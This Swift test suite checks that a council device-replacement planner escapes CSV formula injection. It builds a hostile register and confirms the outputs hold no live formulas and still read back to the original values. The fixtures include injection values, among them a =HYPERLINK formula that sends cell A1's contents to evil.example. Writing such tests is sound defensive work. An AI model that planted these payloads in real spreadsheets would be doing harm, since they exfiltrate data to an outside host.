import Foundation
import Testing
@testable import Phaseout

// A register whose every text column starts with =, +, - or @ and holds tabs and CR LFs gives
// outputs with no live formula, which verify accepts and which read back to the register's values.

/// One hostile value per text column (before CSV quoting), and a council that cannot pay.
let hostileRows: [[String]] = [
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+Fife\r\n@1", "-S1\t=2", "@Camera", "=Hikvision\r\n+1",
     "+High", "-town\r\ncentre", "@model\t-X", "2015", "", "'=already"],
    ["@dev\r\n2", "+fife\r\n@1", "-S1\t=2", "@camera", "-Dahua", "+high", "-town\r\ncentre", "+m", "", "=p1", "''+twice"],
    ["'@three", "-Angus\r\nx", "=S\r\n9", "@camera", "+Hikvision", "", "", "", "2010", "", "'plain"],
    ["-broke\t1", "@Broke", "+B1", "@camera", "@Hikvision", "", "", "", "", "", "\t=tab"],
]

let hostileHeader = ["device_id", "council", "site_id", "kind", "vendor", "sensitivity", "site_category", "model",
                     "installed", "locked_period", "=notes"]

/// The register's CSV text: every field quoted.
let hostileRegister = ([hostileHeader] + hostileRows).map { fields in
    fields.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",")
}.joined(separator: "\r\n") + "\r\n"

let hostileScenario = #"""
    {"periods": ["=P1", "+P2"], "sensitivity": {"+high": 4},
     "kinds": {"@camera": {"replaceCost": 100, "labourHours": 1}},
     "siteVisitCost": {"-town\r\ncentre": 10},
     "budgets": {"default": [1000, 1000], "@broke": [0, 0]},
     "deadlines": [{"by": "+P2"}]}
    """#

@Suite struct FormulaInjectionTests {
    @Test func outputsHoldNoLiveFormulaAndReadBackIntact() throws {
        let estate = try inlineEstate(register: hostileRegister, scenario: hostileScenario)
        let planned = try PlannedDirectory(estate)
        defer { planned.remove() }
        #expect(planned.plan.status == .infeasible)
        var names: [String] = []
        for name in ["plan.csv", "visits.csv", "funded-plan.csv", "funded-visits.csv"] {
            let text = try String(contentsOf: planned.url.appendingPathComponent(name), encoding: .utf8)
            let records = csvRecords(text)
            #expect(records.count > 1, "\(name)")
            for record in records {
                #expect(record.count == records[0].count, "\(name): \(record)")
                for cell in record { #expect(!isLiveFormula(cell), "\(name): \(cell)") }
            }
            names.append(name)
        }
        #expect(names.count == 4)

        let plan = csvRecords(try String(contentsOf: planned.url.appendingPathComponent("plan.csv"), encoding: .utf8))
            .map { $0.map(CSVText.original) }
        let header = plan[0]
        #expect(header.suffix(3) == ["=notes", "by", "isolatedBy"])
        var seen = Set<String>()
        for record in plan.dropFirst() {
            let value = { (column: String) in record[header.firstIndex(of: column)!] }
            let row = try #require(hostileRows.first { $0[0] == value("device_id") }, "\(record)")
            seen.insert(row[0])
            for (k, column) in hostileHeader.enumerated() where !["sensitivity", "installed"].contains(column) {
                let expected = column == "site_category" && row[k].isEmpty ? "default" : row[k].trimmingUnicodeWhitespace
                #expect(value(column) == expected, "\(column): \(value(column).debugDescription) vs \(expected.debugDescription)")
            }
            #expect(["", "=P1", "+P2"].contains(value("period")))
        }
        #expect(seen.count == hostileRows.count)
    }

    @Test func verifyAcceptsTheToolsOwnFiles() throws {
        let estate = try inlineEstate(register: hostileRegister, scenario: hostileScenario)
        let planned = try PlannedDirectory(estate)
        defer { planned.remove() }
        let verifier = PlanVerifier(estate: estate)
        let report = try verifier.verify(planCSVAt: planned.url.appendingPathComponent("plan.csv").path)
        // Only the council with no money misses its deadline.
        #expect(!report.violations.isEmpty)
        #expect(report.violations.allSatisfy { $0.organisation == "@Broke" }, "\(report.violations)")
        let shortfalls = try ShortfallReader.read(path: planned.url.appendingPathComponent("summary.json").path,
                                                  periodCount: estate.scenario.periodCount)
        let funded = try verifier.funded(by: shortfalls)
            .verify(planCSVAt: planned.url.appendingPathComponent("funded-plan.csv").path)
        #expect(funded.violations.isEmpty, "\(funded.violations)")
    }
}
